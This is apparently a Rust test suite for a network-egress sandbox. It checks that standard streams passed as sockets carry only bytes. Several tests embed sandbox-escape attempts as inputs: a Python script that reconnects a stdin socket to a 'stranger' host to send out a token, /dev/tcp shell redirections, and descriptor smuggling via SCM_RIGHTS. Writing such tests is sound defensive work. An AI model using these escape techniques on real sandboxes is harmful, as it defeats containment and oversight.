//! Standard input, output and error carry bytes and nothing else, whatever they are outside, and
//! carry them as before.

use std::{
    fs,
    io::{IoSlice, Read, Write},
    net::Shutdown,
    os::{
        fd::{AsRawFd, OwnedFd},
        unix::net::UnixStream,
    },
    process::{Child, Stdio},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use egress_tests::{
    agent::{self, Agent, policy},
    process::patience,
    token,
    world::World,
    zone,
};
use nix::sys::{
    signal::{Signal, kill},
    socket::{ControlMessage, MsgFlags, sendmsg, setsockopt, sockopt},
};

/// A client that reads nothing holds an end up for 5 s.
const END: Duration = Duration::from_secs(30);

/// A started agent whose standard descriptors are sockets, as node gives them to its children.
struct Client {
    child: Child,
    input: UnixStream,
    output: UnixStream,
    error: UnixStream,
}

impl Client {
    fn start(world: &World, agent: Agent<'_>, words: &[&str], one: bool) -> Result<Self> {
        let file = world.path("policy.yaml");
        fs::write(&file, policy("stdio", &[]))?;
        let (mut command, _) = agent.command(&file, words)?;
        let (input, inside) = UnixStream::pair()?;
        let (output, inside_out) = UnixStream::pair()?;
        let (error, inside_error) = UnixStream::pair()?;
        // So little that what the connector leaves does not fit.
        setsockopt(&inside_out, sockopt::SndBuf, &4096)?;
        let inside_error: OwnedFd = if one {
            inside_out.try_clone()?.into()
        } else {
            inside_error.into()
        };
        let child = command
            .stdin(OwnedFd::from(inside))
            .stdout(OwnedFd::from(inside_out))
            .stderr(Stdio::from(inside_error))
            .spawn()?;
        Ok(Self {
            child,
            input,
            output,
            error,
        })
    }

    /// Its exit code. Errors: it does not end.
    fn code(&mut self) -> Result<i32> {
        let end = Instant::now() + END * patience();
        loop {
            if let Some(status) = self.child.try_wait()? {
                return status.code().context("it was killed");
            }
            ensure!(Instant::now() < end, "it does not end");
            thread::sleep(Duration::from_millis(5));
        }
    }
}

impl Drop for Client {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let pid = nix::unistd::Pid::from_raw(self.child.id().cast_signed());
            // It fails only where the process is gone already.
            let _ = kill(pid, Signal::SIGTERM);
        }
    }
}

fn read_all(mut stream: UnixStream) -> thread::JoinHandle<String> {
    thread::spawn(move || {
        let mut bytes = Vec::new();
        // What came before an error is what came.
        let _ = stream.read_to_end(&mut bytes);
        String::from_utf8_lossy(&bytes).into_owned()
    })
}

#[test]
fn every_byte_passes_a_socket_and_so_does_the_end() -> Result<()> {
    let world = World::new()?;
    let script = "cat; echo last >&2; exit 7";
    let agent = world.agent("").option("--quiet");
    let mut client = Client::start(&world, agent, &["/bin/sh", "-c", script], false)?;
    let text: String = (0..300_000u32).map(|n| format!("{n},")).collect();
    let sent = text.clone();
    let mut input = client.input.try_clone()?;
    let writer = thread::spawn(move || {
        input.write_all(sent.as_bytes())?;
        input.shutdown(Shutdown::Write)
    });
    let output = read_all(client.output.try_clone()?);
    let error = read_all(client.error.try_clone()?);
    ensure!(client.code()? == 7);
    writer.join().expect("the writer")?;
    let (output, error) = (output.join().expect("a reader"), error.join().expect("one"));
    ensure!(output == text, "{} of {} bytes", output.len(), text.len());
    ensure!(error == "last\n", "{error:?}");
    Ok(())
}

/// Whatever the other end attaches to its bytes stays outside, on each of the three.
#[test]
fn no_descriptor_comes_in() -> Result<()> {
    let world = World::new()?;
    let script = r"
import os, socket, stat
kinds = [stat.S_ISFIFO(os.fstat(fd).st_mode) for fd in range(3)]
got = []
for fd in range(3):
    try:
        with socket.socket(fileno=os.dup(fd)) as channel:
            _, fds, _, _ = socket.recv_fds(channel, 16, 4)
            got += [os.write(one, b'out\n') for one in fds]
    except OSError as error:
        got.append(error.errno)
print(kinds, got, os.read(0, 16), flush=True)
";
    let words = ["/usr/bin/python3", "-c", script];
    let client = Client::start(&world, world.agent("").option("--quiet"), &words, false)?;
    let mut client = client;
    let (mut outside, given) = UnixStream::pair()?;
    outside.set_read_timeout(Some(Duration::from_millis(500)))?;
    for way in [&client.input, &client.output, &client.error] {
        let rights = [given.as_raw_fd()];
        sendmsg::<()>(
            way.as_raw_fd(),
            &[IoSlice::new(b"bytes")],
            &[ControlMessage::ScmRights(&rights)],
            MsgFlags::empty(),
            None,
        )?;
    }
    drop(given);
    client.code()?;
    let (output, error) = (
        read_all(client.output.try_clone()?),
        read_all(client.error.try_clone()?),
    );
    drop(client);
    let output = output.join().expect("a reader");
    // ENOTSOCK: a pipe has no way for them; the bytes themselves came.
    ensure!(
        output == "[True, True, True] [88, 88, 88] b'bytes'\n",
        "{output}{}",
        error.join().expect("a reader")
    );
    let mut said = String::new();
    ensure!(
        outside.read_to_string(&mut said).is_ok() && said.is_empty(),
        "it got a descriptor: {said}"
    );
    Ok(())
}

/// An IP socket made outside meets no hook: dissolved, it could be connected anywhere.
#[test]
fn a_connection_as_standard_input_leads_nowhere_else() -> Result<()> {
    let world = World::new()?;
    let (permitted, forbidden) = (token::new(), token::new());
    let script = format!(
        r"
import ctypes, os, socket
os.write(1, b'{permitted}\n')
for fd in range(2):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.connect(fd, bytes(16), 16) == 0:
        other = socket.socket(fileno=os.dup(fd))
        other.connect(('{stranger}', 9999))
        other.sendall(b'{forbidden}\n')
    os.write(2, os.strerror(ctypes.get_errno()).encode() + b'\n')
",
        stranger = zone::STRANGER
    );
    let line = format!(
        "exec 5<>/dev/tcp/{0}/9999; exec \"$@\" <&5 >/dev/tcp/{0}/9999",
        zone::ALLOWED
    );
    let report = world.agent(policy("stdio", &[])).behind(&line).run(&[
        "/usr/bin/python3",
        "-c",
        &script,
    ])?;
    ensure!(report.outcome.ok(), "{report}");
    ensure!(
        report
            .outcome
            .stderr
            .matches("Socket operation on non-socket")
            .count()
            == 2,
        "{report}"
    );
    world.fence()?;
    ensure!(!world.sightings(&permitted)?.is_empty(), "{report}");
    ensure!(world.sightings(&forbidden)?.is_empty(), "{report}");
    ensure!(world.packets(zone::STRANGER)?.is_empty());
    Ok(())
}

/// A folder leads to the sockets in it; an event counter or the like to who knows what.
#[test]
fn other_descriptors_stay_outside() -> Result<()> {
    let world = World::new()?;
    let script = "ls /proc/self/fd/0/ 2>&1; stat -L -c %F /proc/self/fd/0; cat | wc -c";
    let report = world
        .agent(policy("stdio", &[]))
        .behind("exec \"$@\" </")
        .run(&["/bin/sh", "-c", script])?;
    report.ensure_printed("fifo\n0\n")
}

#[test]
fn output_and_error_on_one_socket_keep_their_order() -> Result<()> {
    let world = World::new()?;
    let script = "for n in $(seq 500); do echo out $n; echo error $n >&2; done";
    let agent = world.agent("").option("--quiet");
    let mut client = Client::start(&world, agent, &["/bin/sh", "-c", script], true)?;
    let output = read_all(client.output.try_clone()?);
    ensure!(client.code()? == 0);
    let lines: String = (1..=500).map(|n| format!("out {n}\nerror {n}\n")).collect();
    ensure!(output.join().expect("a reader") == lines);
    Ok(())
}

/// What does not fit into the client's socket is lost, as it would be with the client; the run
/// ends all the same.
#[test]
fn a_client_that_reads_nothing_holds_no_end_up() -> Result<()> {
    let world = World::new()?;
    let script = "head -c 60000 /dev/zero; exit 3";
    let agent = world.agent("").option("--quiet");
    let mut client = Client::start(&world, agent, &["/bin/sh", "-c", script], false)?;
    ensure!(client.code()? == 3);
    Ok(())
}

/// The connector is told, as over the socket itself.
#[test]
fn a_client_that_hangs_up_is_noticed() -> Result<()> {
    let world = World::new()?;
    let agent = world.agent("").option("--quiet");
    let mut client = Client::start(&world, agent, &["/usr/bin/yes"], false)?;
    let mut first = [0; 2];
    client.output.read_exact(&mut first)?;
    let (other, _) = UnixStream::pair()?;
    drop(std::mem::replace(&mut client.output, other));
    let code = client.code()?;
    ensure!(code == 128 + Signal::SIGPIPE as i32 || agent::unconfined());
    Ok(())
}
